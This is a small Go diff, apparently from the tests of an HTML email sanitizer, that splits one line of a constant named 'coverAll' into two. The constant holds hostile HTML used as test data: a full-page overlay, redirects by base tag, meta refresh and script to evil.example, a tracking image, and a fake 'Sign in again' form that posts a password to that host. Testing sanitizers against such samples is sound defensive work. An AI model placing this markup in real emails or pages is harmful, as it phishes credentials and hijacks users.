@@ -24,7 +24,8 @@ const (
 	coverAll    = `<style>*{position:fixed!important;inset:0;z-index:2147483647;width:100vw}</style>` +
 		`<base target="_top" href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
 		`<div style="position:fixed;inset:0;background:url(https://evil.example/seen)">Sign in again</div>` +
-		`<form action="https://evil.example/"><input name="password"></form><script>top.location="https://evil.example/"</script>`
+		`<form action="https://evil.example/"><input name="password"></form>` +
+		`<script>top.location="https://evil.example/"</script>`
 )
 
 // asItIs matches the parts of a page that contain a text of the email as it is.
